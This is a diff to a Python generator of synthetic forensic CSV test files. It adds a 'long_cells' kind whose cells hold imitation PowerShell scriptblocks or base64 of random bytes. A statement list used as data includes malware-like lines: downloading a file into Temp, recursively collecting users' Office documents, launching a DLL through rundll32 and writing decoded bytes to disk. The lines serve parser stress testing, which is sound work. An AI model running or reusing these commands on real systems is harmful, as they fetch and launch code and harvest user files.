@@ -13,7 +13,7 @@ counts) is written last, so a run cut short leaves nothing that looks finished.
   gen_csv.py file KIND SIZE OUT [--plain PLAIN] [--seed N]
   gen_csv.py pipe COUNT DIR [--seed N]
 
-KIND is registry, etl, evt_utf16, lnk or bodyfile; SIZE is bytes with an optional K, M or G
+KIND is registry, etl, evt_utf16, lnk, bodyfile or long_cells; SIZE is bytes with an optional K, M or G
 suffix (1M .. 2G and beyond). --plain also writes the data rows under the first group's header
 row, without banner, tags or later header rows (the input of plain-CSV tools; every kind keeps
 one column count across its groups). `pipe` writes COUNT small sources of every
@@ -21,6 +21,7 @@ kind (1 to 16 KiB) into DIR with a names.txt listing them.
 """
 
 import argparse
+import base64
 import json
 import os
 import random
@@ -234,9 +235,42 @@ def body_values(rng, group, clock):
             str(t + rng.randint(0, 5000)), str(t), str(t + rng.randint(0, 100)), str(t - rng.randint(0, 10_000_000))]
 
 
+# ---- long cells (hasmir): descriptions that carry whole scripts or encoded blobs of 1 KiB to
+# 1 MiB, comma-separated, quoted where they hold commas or quotes.
+
+SCRIPT_STATEMENTS = [
+    '$path = "C:\\Users\\{user}\\AppData\\Local\\Temp\\{word}.ps1"',
+    'if ($env:COMPUTERNAME -ne "{host}") {{ exit 1 }}',
+    'Invoke-WebRequest -Uri "https://cdn.example.net/{word}?id={n}&k=7" -OutFile $path',
+    'Get-ChildItem -Path C:\\Users -Recurse -Include *.docx,*.xlsx | Where-Object {{ $_.Length -gt {n} }}',
+    'Start-Process -FilePath "rundll32.exe" -ArgumentList "{word}.dll,Start <{n}>"',
+    'Write-Host "copied {n} files & removed the log"',
+    '$data = [Convert]::FromBase64String($blob); [IO.File]::WriteAllBytes($path, $data)',
+]
+
+
+def long_cell_text(rng):
+    """A script block or an encoded blob of 1 KiB to 1 MiB (spread evenly over the powers of two)."""
+    length = int(2 ** rng.uniform(10, 20))
+    if rng.random() < 0.5:
+        piece = "Encoded payload: " + base64.b64encode(rng.randbytes(3 << 10)).decode()
+    else:
+        statements = [rng.choice(SCRIPT_STATEMENTS).format(user=rng.choice(USERS), host=rng.choice(HOSTS),
+                                                          word=rng.choice(WORDS), n=rng.randint(1, 99999))
+                      for _ in range(48)]
+        piece = "Creating Scriptblock text (1 of 1): " + "; ".join(statements) + "; "
+    return (piece * (length // len(piece) + 1))[:length]
+
+
+def long_cell_values(rng, group, clock):
+    date, clock_text = clock.parts(millis=True)
+    return [date, clock_text, str(rng.choice([4103, 4104, 4688])), group, f"{rng.choice(HOSTS)}.tidewater.local",
+            rng.choice(["info", "warning"]), long_cell_text(rng)]
+
+
 class Kind:
     def __init__(self, tool, version, cmd, sep_text, newline, encoding, bom, columns_of, values, groups,
-                 group_lines, prelude=()):
+                 group_lines, prelude=(), pool_rows=POOL_ROWS):
         self.tool = tool
         self.version = version
         self.cmd = cmd
@@ -250,6 +284,7 @@ class Kind:
         self.groups = groups              # group keys, cycled
         self.group_lines = group_lines    # group -> tag lines before its header row
         self.prelude = prelude            # tag lines after the banner, once
+        self.pool_rows = pool_rows        # distinct rows per group layout
 
     def banner(self):
         return [f"{self.tool} - 64 ver: {self.version}; (c) Quazel LLC",
@@ -281,6 +316,10 @@ KINDS = {
                 b"\xef\xbb\xbf", lambda g: LNK_COLUMNS, lnk_values, ["Recent"], lambda g: []),
     "bodyfile": Kind("fendral", "3.11", "fendral64 -mft /cases/2024-0311/$MFT -bodyfile", "|", "\n", "utf-8", b"",
                      lambda g: BODY_COLUMNS, body_values, ["mft"], lambda g: []),
+    # Rows of 150 KiB on average: a small pool keeps the generator's memory low.
+    "long_cells": Kind("hasmir", "1.61", "hasmir64 -log /cases/2024-0311/logs/PowerShell.evtx -csv", ",", "\n",
+                       "utf-8", b"", lambda g: EVT_COLUMNS, long_cell_values,
+                       ["Microsoft-Windows-PowerShell/Operational", "Security"], lambda g: [], pool_rows=64),
 }
 
 
@@ -326,7 +365,7 @@ def write_source(kind_name, size, out_path, plain_path=None, seed=1):
             group = kind.groups[group_index % len(kind.groups)]
             key = group[0] if isinstance(group, tuple) else group
             if key not in pools:
-                pools[key] = Pool(kind, group, random.Random(rng.getrandbits(32)))
+                pools[key] = Pool(kind, group, random.Random(rng.getrandbits(32)), kind.pool_rows)
             pool = pools[key]
             columns = kind.columns_of(group)
             lines = [] if group_index == 0 else [RULE]
